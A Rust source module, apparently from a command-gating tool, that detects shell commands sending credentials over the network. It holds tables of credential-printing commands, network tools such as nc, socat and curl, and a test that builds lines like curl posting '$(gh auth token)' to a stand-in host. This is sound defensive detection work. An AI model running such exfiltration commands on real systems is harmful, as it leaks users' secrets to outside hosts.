//! Secret material flowing to the network, as one fact across the whole command.
//!
//! A command *holds* secret material when it reads a credentials file (the path classes of
//! [`crate::paths`], or a directory that keeps them, read recursively), prints credentials
//! ([`CREDENTIAL_PRINTERS`]: `gh auth token`, `aws configure export-credentials`, …), dumps
//! the environment, reads a file an earlier command of the call filled with secret material
//! (`cp ~/.aws/credentials /tmp/c`, `tar czf k.tgz ~/.ssh`), gets it as an argument
//! (`$(cat ~/.netrc)`, a variable assigned from one) or on its input from an earlier
//! pipeline stage. A command *sends* what it uploads, its arguments (a URL, a header, a DNS
//! name) and, for the programs that ship their input, its standard input. Both meeting in
//! one command is exfiltration: [`exfiltration`] names the path, and the `secret.exfil`
//! rule makes it catastrophic.
//!
//! Sending credentials to the service they belong to (`gh auth token` to `api.github.com`)
//! and sending anything to this machine (`localhost`) are not exfiltration.

use std::path::{Path, PathBuf};

use toolgate_protocol::Access;

use crate::classify::effects::{Effects, PathUse};
use crate::paths::{inside_roots, secret_kind};
use crate::types::Context;
use crate::walk::{Rec, Walker};

/// A command that prints credentials, and the hosts they are meant for.
pub(crate) struct CredentialPrinter {
    /// Program basename.
    pub program: &'static str,
    /// Leading operands that select the printing subcommand (any of the listed spellings,
    /// word by word).
    pub words: &'static [&'static [&'static str]],
    /// Host suffixes the credentials belong to: sending them there is their use.
    pub audience: &'static [&'static str],
    /// Commands that print credentials.
    pub matches: &'static [&'static str],
    /// Look-alikes that do not.
    pub not_matches: &'static [&'static str],
}

/// Commands whose output is a credential.
#[rustfmt::skip]
pub(crate) const CREDENTIAL_PRINTERS: &[CredentialPrinter] = &[
    CredentialPrinter { program: "gh", words: &[&["auth"], &["token"]], audience: &["github.com"], matches: &["gh auth token"], not_matches: &["gh auth status", "gh pr list"]},
    CredentialPrinter { program: "glab", words: &[&["auth"], &["token"]], audience: &["gitlab.com"], matches: &["glab auth token"], not_matches: &["glab auth status"]},
    CredentialPrinter { program: "aws", words: &[&["configure"], &["export-credentials"]], audience: &["amazonaws.com"], matches: &["aws configure export-credentials --format env"], not_matches: &["aws configure list"]},
    CredentialPrinter { program: "aws", words: &[&["configure"], &["get"], &["aws_secret_access_key", "aws_access_key_id", "aws_session_token"]], audience: &["amazonaws.com"], matches: &["aws configure get aws_secret_access_key"], not_matches: &["aws configure get region"]},
    CredentialPrinter { program: "aws", words: &[&["sts"], &["get-session-token", "assume-role", "get-federation-token"]], audience: &["amazonaws.com"], matches: &["aws sts get-session-token"], not_matches: &["aws sts get-caller-identity"]},
    CredentialPrinter { program: "aws", words: &[&["ecr", "ecr-public", "codeartifact"], &["get-login-password", "get-authorization-token"]], audience: &["amazonaws.com"], matches: &["aws ecr get-login-password"], not_matches: &["aws ecr describe-repositories"]},
    CredentialPrinter { program: "gcloud", words: &[&["auth"], &["print-access-token", "print-identity-token", "application-default"]], audience: &["googleapis.com", "google.com"], matches: &["gcloud auth print-access-token", "gcloud auth application-default print-access-token"], not_matches: &["gcloud auth list"]},
    CredentialPrinter { program: "az", words: &[&["account"], &["get-access-token"]], audience: &["azure.com", "microsoft.com", "windows.net", "azure.net"], matches: &["az account get-access-token"], not_matches: &["az account show"]},
    CredentialPrinter { program: "kubectl", words: &[&["config"], &["view"], &["--raw"]], audience: &[], matches: &["kubectl config view --raw"], not_matches: &["kubectl config view"]},
    CredentialPrinter { program: "kubectl", words: &[&["create"], &["token"]], audience: &[], matches: &["kubectl create token sa"], not_matches: &["kubectl create ns x"]},
    CredentialPrinter { program: "vault", words: &[&["read", "kv", "token", "print"]], audience: &[], matches: &["vault kv get secret/app", "vault read secret/x", "vault print token"], not_matches: &["vault status"]},
    CredentialPrinter { program: "op", words: &[&["read", "item", "inject"]], audience: &[], matches: &["op read op://vault/item/password", "op item get x --reveal"], not_matches: &["op vault list"]},
    CredentialPrinter { program: "pass", words: &[&["show"]], audience: &[], matches: &["pass show email/work"], not_matches: &["pass ls"]},
    CredentialPrinter { program: "bw", words: &[&["get"]], audience: &[], matches: &["bw get password x"], not_matches: &["bw list items"]},
    CredentialPrinter { program: "lpass", words: &[&["show"]], audience: &[], matches: &["lpass show x --password"], not_matches: &["lpass ls"]},
    CredentialPrinter { program: "security", words: &[&["find-generic-password", "find-internet-password", "dump-keychain"]], audience: &[], matches: &["security find-generic-password -s x -w"], not_matches: &["security list-keychains"]},
    CredentialPrinter { program: "secret-tool", words: &[&["lookup"]], audience: &[], matches: &["secret-tool lookup service x"], not_matches: &["secret-tool search x y"]},
    CredentialPrinter { program: "git", words: &[&["credential"], &["fill"]], audience: &[], matches: &["git credential fill"], not_matches: &["git credential-cache exit"]},
    CredentialPrinter { program: "heroku", words: &[&["auth:token"]], audience: &["heroku.com"], matches: &["heroku auth:token"], not_matches: &["heroku apps"]},
    CredentialPrinter { program: "doppler", words: &[&["secrets"]], audience: &[], matches: &["doppler secrets download --no-file"], not_matches: &["doppler setup"]},
    CredentialPrinter { program: "sops", words: &[&["-d", "--decrypt", "decrypt"]], audience: &[], matches: &["sops -d secrets.enc.yaml"], not_matches: &["sops -e x.yaml"]},
    CredentialPrinter { program: "npm", words: &[&["token"], &["create"]], audience: &["npmjs.org", "npmjs.com"], matches: &["npm token create"], not_matches: &["npm token list"]},
];

/// Programs whose output is the environment when run without operands; with a variable
/// name as operand (`printenv TOKEN`) they print that variable.
const ENV_DUMPS: &[&str] = &["env", "printenv", "set", "export", "declare", "typeset"];

/// Programs that send what they are given over the network. A command counts as a sink
/// when it is one of these; what it sends is decided in [`exfiltration`].
const SINKS: &[&str] = &[
    "curl",
    "wget",
    "http",
    "https",
    "xh",
    "httpie",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "openssl",
    "ssh",
    "scp",
    "sftp",
    "rsync",
    "ftp",
    "lftp",
    "tftp",
    "smbclient",
    "rclone",
    "aws",
    "gsutil",
    "gcloud",
    "az",
    "s3cmd",
    "mc",
    "azcopy",
    "mail",
    "mailx",
    "s-nail",
    "sendmail",
    "mutt",
    "dig",
    "nslookup",
    "host",
    "drill",
    "ping",
    "whois",
];

/// Sinks that ship their standard input (the others send their input only when told to,
/// as `curl -d @-` does).
const STDIN_SENDERS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "mail", "mailx", "s-nail",
    "sendmail", "mutt", "ftp", "tftp", "http", "https", "xh", "httpie",
];

/// The credential printer `rec` is, if it is one: its operands (and the flags a printer's
/// words name, such as `--raw`) start with the printer's words.
fn printer(rec: &Rec) -> Option<&'static CredentialPrinter> {
    CREDENTIAL_PRINTERS.iter().find(|c| {
        if c.program != rec.program {
            return false;
        }
        let ops: Vec<&str> = rec
            .argv
            .iter()
            .skip(1)
            .map(|f| f.text.as_str())
            .filter(|a| !a.starts_with('-') || c.words.iter().any(|alts| alts.contains(a)))
            .collect();
        c.words.len() <= ops.len() && c.words.iter().zip(&ops).all(|(alts, op)| alts.contains(op))
    })
}

/// Whether a variable name looks like it holds a credential (`GITHUB_TOKEN`, `DB_PASSWORD`).
fn secret_name(name: &str) -> bool {
    let n = name.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "ACCESS_KEY",
        "PRIVATE_KEY",
        "CREDENTIAL",
    ]
    .iter()
    .any(|s| n.contains(s))
}

/// Whether reading `path` recursively reads credentials: a credentials directory itself
/// (`~/.aws`), a configuration directory directly in home where they live (`~/.ssh`: a key
/// below it is a secret path), home itself, or the system's configuration (`/etc`, `/root`).
pub(crate) fn holds_secrets(path: &Path, ctx: &Context) -> bool {
    const PROBES: &[&str] = &["id_rsa", ".env", "credentials", ".netrc"];
    if secret_kind(path, ctx).is_some() {
        return true;
    }
    if inside_roots(path, &ctx.roots, &ctx.cwd) {
        return false;
    }
    let home = ctx.home.as_deref();
    let home_dot_dir = home.is_some_and(|h| {
        path.parent() == Some(h)
            && path
                .file_name()
                .is_some_and(|n| n.to_string_lossy().starts_with('.'))
    });
    let whole =
        home == Some(path) || matches!(path.to_str(), Some("/" | "/etc" | "/root" | "/home"));
    (home_dot_dir
        && PROBES
            .iter()
            .any(|p| secret_kind(&path.join(p), ctx).is_some()))
        || whole
}

/// The secret kind of a file a glob pattern's last component can match, when the pattern
/// names something (a bare `*` could match anything and names nothing in particular). The
/// candidate names are the file names of the path-class table's own secret examples, so a
/// credentials file the table learns is one a glob can pick up.
pub(crate) fn glob_secret(pattern: &Path, ctx: &Context) -> Option<&'static str> {
    let name = pattern.file_name()?.to_string_lossy();
    if !name.chars().any(|c| !matches!(c, '*' | '?')) {
        return None;
    }
    let dir = pattern.parent()?;
    toolgate_protocol::paths::PATH_CLASSES
        .iter()
        .filter(|e| e.class == toolgate_protocol::paths::Class::Secret)
        .flat_map(|e| e.matches.iter())
        .filter_map(|m| Path::new(m).file_name()?.to_str())
        .filter(|n| fnmatch(&name, n))
        .find_map(|n| secret_kind(&dir.join(n), ctx))
}

/// Shell pattern matching of one name: `*`, `?`, `[…]` (with `!`/`^` and ranges); a
/// leading `.` must be matched literally, as the shell requires.
pub(crate) fn fnmatch(pattern: &str, name: &str) -> bool {
    fn go(p: &[char], n: &[char]) -> bool {
        match p.first() {
            None => n.is_empty(),
            Some('*') => (0..=n.len()).any(|k| go(&p[1..], &n[k..])),
            Some('?') => !n.is_empty() && go(&p[1..], &n[1..]),
            Some('[') => {
                let Some(end) = p.iter().skip(2).position(|c| *c == ']').map(|e| e + 2) else {
                    return n.first() == Some(&'[') && go(&p[1..], &n[1..]);
                };
                let Some(c) = n.first() else { return false };
                let set = &p[1..end];
                let (neg, set) = match set.first() {
                    Some('!' | '^') => (true, &set[1..]),
                    _ => (false, set),
                };
                let mut hit = false;
                let mut i = 0;
                while i < set.len() {
                    if i + 2 < set.len() && set[i + 1] == '-' {
                        hit |= set[i] <= *c && *c <= set[i + 2];
                        i += 3;
                    } else {
                        hit |= set[i] == *c;
                        i += 1;
                    }
                }
                hit != neg && go(&p[end + 1..], &n[1..])
            }
            Some(c) => n.first() == Some(c) && go(&p[1..], &n[1..]),
        }
    }
    let p: Vec<char> = pattern.chars().collect();
    let n: Vec<char> = name.chars().collect();
    if n.first() == Some(&'.') && p.first() != Some(&'.') {
        return false;
    }
    go(&p, &n)
}

/// Why a path use reads secret material, given the files the call filled with it.
fn secret_use(u: &PathUse, ctx: &Context, files: &[PathBuf]) -> Option<String> {
    if u.access != Access::Read || u.list {
        return None;
    }
    let p = u.path.as_ref()?;
    if let Some(kind) = u.secret {
        return Some(format!("{} ({kind})", p.display()));
    }
    if files.contains(p) {
        return Some(format!(
            "{}, which an earlier command filled with secret material",
            p.display()
        ));
    }
    (u.recursive && holds_secrets(p, ctx))
        .then(|| format!("everything in {}, which keeps credentials", p.display()))
}

impl Walker<'_> {
    /// Works out whether record `r` holds secret material ([`Rec::secret`]) and, if it
    /// writes files, remembers them as holding it too.
    pub(crate) fn note_secret(&mut self, r: usize) {
        self.note_transfer_commands(r);
        let Some(rec) = self.recs.get(r) else {
            return;
        };
        let fx = crate::classify::effects::effects(rec, self.ctx);
        let why = self.secret_source(rec, &fx);
        let reads: Vec<PathBuf> = fx
            .paths
            .iter()
            .filter(|u| secret_use(u, self.ctx, &self.secret_files).is_some())
            .filter_map(|u| u.path.clone())
            .collect();
        if why.is_some() {
            for u in fx.paths.iter().filter(|u| u.access == Access::Write) {
                if let Some(p) = &u.path
                    && !self.secret_files.contains(p)
                {
                    self.secret_files.push(p.clone());
                }
            }
        }
        if let Some(rec) = self.recs.get_mut(r) {
            rec.secret = why;
            rec.secret_reads = reads;
        }
    }

    /// The files a file-transfer client is told to upload in its command language (`put
    /// FILE` on stdin, in a here-document, in `lftp -e`/`-c` or `smbclient -c`) are files it
    /// reads, and sends.
    fn note_transfer_commands(&mut self, r: usize) {
        let Some(rec) = self.recs.get(r) else {
            return;
        };
        if !matches!(
            rec.program.as_str(),
            "ftp" | "lftp" | "sftp" | "tftp" | "smbclient"
        ) {
            return;
        }
        let mut texts: Vec<String> = Vec::new();
        if let Some((t, _)) = &rec.stdin {
            texts.push(t.clone());
        }
        if rec.stage > 0
            && let crate::feed::Output::Text(t) =
                self.pipeline_output(self.pipe.1.get(..rec.stage).unwrap_or(&[]))
        {
            texts.push(t);
        }
        for w in rec.argv.windows(2) {
            if matches!(w[0].text.as_str(), "-e" | "-c") {
                texts.push(w[1].text.clone());
            }
        }
        let mut files = Vec::new();
        for t in &texts {
            for cmd in t.split(['\n', ';']) {
                let mut words = cmd.split_whitespace();
                if matches!(
                    words.next(),
                    Some("put" | "mput" | "send" | "append" | "reput" | "mirror")
                ) {
                    files.extend(
                        words
                            .filter(|w| !w.starts_with('-'))
                            .take(usize::MAX)
                            .map(str::to_owned),
                    );
                }
            }
        }
        if let Some(rec) = self.recs.get_mut(r) {
            rec.extra_reads.extend(files);
        }
    }

    /// Why `rec` holds secret material, if it does.
    fn secret_source(&self, rec: &Rec, fx: &Effects) -> Option<String> {
        if let Some(why) = fx
            .paths
            .iter()
            .find_map(|u| secret_use(u, self.ctx, &self.secret_files))
        {
            return Some(format!("`{}` reads {why}", rec.program));
        }
        if let Some(c) = printer(rec) {
            return Some(format!(
                "`{} {}` prints credentials",
                c.program, c.words[0][0]
            ));
        }
        if ENV_DUMPS.contains(&rec.program.as_str()) {
            let ops: Vec<&str> = rec
                .argv
                .iter()
                .skip(1)
                .map(|f| f.text.as_str())
                .filter(|a| !a.starts_with('-'))
                .collect();
            let dump = rec.argv.len() == 1
                || (matches!(rec.program.as_str(), "env" | "printenv") && ops.is_empty())
                || (matches!(rec.program.as_str(), "export" | "declare" | "typeset")
                    && ops.is_empty()
                    && rec.argv.iter().any(|f| f.text == "-p"));
            if dump {
                return Some(format!("`{}` prints the environment", rec.program));
            }
            if rec.program == "printenv" && ops.iter().any(|o| secret_name(o)) {
                return Some(format!("`printenv {}` prints a credential", ops.join(" ")));
            }
        }
        if let Some(a) = rec.argv.iter().skip(1).find(|a| a.secret) {
            return Some(format!(
                "`{}` is given secret material (`{}`)",
                rec.program,
                crate::expand::clip(&a.text)
            ));
        }
        // Input from an earlier stage of the same pipeline.
        if rec.stage > 0 {
            let earlier = self.pipe.1.get(..rec.stage).unwrap_or(&[]);
            if let Some(why) = earlier
                .iter()
                .rev()
                .flatten()
                .find_map(|&i| self.recs.get(i).and_then(|e| e.secret.clone()))
            {
                return Some(why);
            }
        }
        None
    }
}

/// The hosts a sink sends to: URL hosts, `user@host:` operands, and the plain operands of
/// connection programs.
fn destinations(rec: &Rec) -> Vec<String> {
    let mut out = Vec::new();
    for a in rec.argv.iter().skip(1) {
        let t = a.text.as_str();
        if t.starts_with('-') {
            continue;
        }
        if t.contains("://") {
            out.push(t.to_owned());
        } else if let Some((host, _)) = t.split_once(':')
            && !host.contains('/')
            && !host.is_empty()
            && matches!(rec.program.as_str(), "scp" | "rsync" | "sftp")
        {
            out.push(host.rsplit('@').next().unwrap_or(host).to_owned());
        } else if matches!(
            rec.program.as_str(),
            "nc" | "ncat" | "netcat" | "telnet" | "ssh" | "ftp" | "sftp" | "lftp"
        ) && !t.chars().all(|c| c.is_ascii_digit())
        {
            out.push(t.rsplit('@').next().unwrap_or(t).to_owned());
        }
    }
    out
}

/// Whether everything `rec` sends goes to this machine or to the service whose credentials
/// the call prints (see [`CredentialPrinter::audience`]).
pub(crate) fn sends_nowhere_else(rec: &Rec, recs: &[Rec]) -> bool {
    let audience: Vec<&str> = recs
        .iter()
        .filter_map(printer)
        .flat_map(|c| c.audience.iter().copied())
        .collect();
    harmless_destination(rec, &audience)
}

/// Whether every destination is this machine or the audience of the credentials.
fn harmless_destination(rec: &Rec, audience: &[&str]) -> bool {
    let dests = destinations(rec);
    !dests.is_empty()
        && dests.iter().all(|d| {
            crate::feed::is_loopback_url(d) || {
                let host = crate::feed::host_of(d);
                audience
                    .iter()
                    .any(|a| host == *a || host.ends_with(&format!(".{a}")))
            }
        })
}

/// Files an upload program sends: `wget --post-file`, mail attachments, the local sources of
/// cloud copies and of `ftp`/`lftp` `put` commands, on top of [`PathUse::upload`].
fn sent_paths<'f>(rec: &Rec, fx: &'f Effects) -> Vec<&'f PathUse> {
    let prog = rec.program.as_str();
    let remote_copy = matches!(
        prog,
        "aws" | "gsutil" | "gcloud" | "az" | "s3cmd" | "mc" | "rclone" | "azcopy"
    ) && rec.argv.iter().any(|f| {
        f.text.contains("://")
            || (prog == "rclone" && f.text.contains(':') && !f.text.starts_with('/'))
    });
    fx.paths
        .iter()
        .filter(|u| {
            u.upload
                || (u.access == Access::Read
                    && (remote_copy
                        || matches!(
                            prog,
                            "wget"
                                | "mail"
                                | "mailx"
                                | "s-nail"
                                | "mutt"
                                | "lftp"
                                | "ftp"
                                | "smbclient"
                        )))
        })
        .collect()
}

/// How `rec` sends secret material over the network, if it does.
pub(crate) fn exfiltration(rec: &Rec, fx: &Effects, recs: &[Rec], ctx: &Context) -> Option<String> {
    let prog = rec.program.as_str();
    if !SINKS.contains(&prog) {
        return None;
    }
    if sends_nowhere_else(rec, recs) {
        return None;
    }
    // Files it uploads.
    for u in sent_paths(rec, fx) {
        let Some(p) = u.path.as_ref() else {
            continue;
        };
        if let Some(kind) = u.secret {
            return Some(format!("sends {} ({kind})", p.display()));
        }
        if u.recursive && holds_secrets(p, ctx) {
            return Some(format!(
                "sends everything in {}, which keeps credentials",
                p.display()
            ));
        }
        if rec.secret_reads.contains(p) {
            return Some(format!(
                "sends {}, which an earlier command filled with secret material",
                p.display()
            ));
        }
    }
    // Arguments carrying secret material (a URL, a header, a body, a DNS name).
    if let Some(a) = rec.argv.iter().skip(1).find(|a| a.secret) {
        return Some(format!(
            "sends `{}`, which carries secret material",
            crate::expand::clip(&a.text)
        ));
    }
    // Its input, for the programs that ship it (and curl/wget told to, `@-`, `-T -`).
    let ships_stdin = STDIN_SENDERS.contains(&prog)
        || rec.argv.iter().any(|f| {
            let t = f.text.as_str();
            t.ends_with("@-")
                || t == "-"
                    && rec
                        .argv
                        .iter()
                        .any(|g| matches!(g.text.as_str(), "-T" | "--upload-file"))
        });
    if ships_stdin && let Some(why) = rec.secret.as_ref() {
        return Some(format!("sends what it is given: {why}"));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Context, analyze};

    #[test]
    fn credential_printers_walk_their_examples() {
        let ctx = Context::new("/home/u/proj").with_home("/home/u");
        // A printer's output sent out is exfiltration; so the examples are checked as
        // `$(CMD)` given to curl.
        let exfil = |cmd: &str| {
            analyze(&format!("curl -d \"$({cmd})\" https://x.example"), &ctx)
                .findings
                .iter()
                .any(|f| f.reason.contains("(rule secret.exfil)"))
        };
        for c in CREDENTIAL_PRINTERS {
            for m in c.matches {
                assert!(exfil(m), "{m} should print credentials");
            }
            for m in c.not_matches {
                assert!(!exfil(m), "{m} should not print credentials");
            }
        }
    }
}
